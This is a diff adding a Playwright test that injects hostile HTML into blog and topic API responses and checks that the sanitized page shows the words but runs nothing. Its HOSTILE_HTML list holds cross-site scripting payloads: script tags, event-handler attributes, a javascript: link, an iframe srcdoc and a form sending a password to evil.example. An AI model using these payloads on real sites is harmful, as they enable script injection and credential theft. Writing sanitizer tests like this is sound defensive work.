@@ -223,3 +223,58 @@ for (const route of routes) {
     await expectSafePage(page, guards, first.expected, `${route.name}, first visit, ${label}`);
   });
 }
+
+/** HTML an attacker would like the API to carry; every line also has plain words that must still show. */
+const HOSTILE_HTML = [
+  '<p>Opening words.</p><script>window.__pwned = "script"</script>',
+  '<p onmouseover="window.__pwned=\'handler\'">Handler words.</p>',
+  '<p><a href="javascript:window.__pwned=\'link\'">Link words</a></p>',
+  '<iframe srcdoc="<script>parent.__pwned=\'frame\'</script>"></iframe>',
+  '<svg onload="window.__pwned=\'svg\'"><circle r="4"/></svg>',
+  '<p style="background:url(https://evil.example/x.png)">Styled words.</p>',
+  '<img src="https://evil.example/t.gif" alt="tracker"><img src="x" onerror="window.__pwned=\'img\'">',
+  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
+  '<p><a href="https://example.org/" target="_blank">External words</a></p>',
+  '<details open ontoggle="alert(1)"><summary>Toggle words</summary></details>',
+].join('');
+
+test('topic and blog HTML from the API is sanitized: the words show, nothing runs', async ({ page }) => {
+  const guards = await guardPage(page);
+  await page.route('**/api/blogDetails', async (route) => {
+    const answer = await route.fetch();
+    const json = await answer.json();
+    json.blog.content = HOSTILE_HTML;
+    await route.fulfill({ response: answer, json });
+  });
+  await page.route('**/api/topics', async (route) => {
+    const answer = await route.fetch();
+    const json = await answer.json();
+    for (const topics of Object.values(json.data.data) as Array<Array<{ slug: string; content: string }>>) {
+      for (const topic of topics) if (topic.slug === records.topicSlug) topic.content = HOSTILE_HTML;
+    }
+    await route.fulfill({ response: answer, json });
+  });
+
+  for (const path of [`/blogs/${records.blogSlug}`, `/topics/${records.topicSlug}`]) {
+    await page.goto(path);
+    const article = page.locator('[data-section="info"]');
+    for (const words of ['Opening words.', 'Handler words.', 'Link words', 'Styled words.', 'External words', 'Toggle words']) {
+      await expect(article.getByText(words), `${path}: ${words}`).toBeVisible();
+    }
+    await article.getByText('Handler words.').hover();
+    await article.getByText('Link words').click();
+    await page.waitForLoadState('networkidle');
+    // The sanitized content is the element holding the first paragraph.
+    const content = article.getByText('Opening words.').locator('xpath=..');
+    expect(await content.locator('script, iframe, svg, form, input, [onerror], [onload], [onmouseover], [style], a[href^="javascript"]').count(), path).toBe(0);
+    await expect(article.getByRole('link', { name: 'External words' })).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(await guards.pwned(), path).toBeUndefined();
+    expect(guards.dialogs, path).toEqual([]);
+    expect(guards.pageErrors, path).toEqual([]);
+    // Removed before the CSP had anything to block: the foreign image never loads, no script or frame is
+    // fetched. (Chromium does report the handler and style attributes when DOMPurify parses the raw HTML
+    // in its inert document, as script-src-attr and style-src-attr: nothing runs there, and nothing of it
+    // reaches the page, as checked above.)
+    expect(guards.violations.filter((text) => !/-attr\b|inline event handler|inline style/.test(text)), path).toEqual([]);
+  }
+});
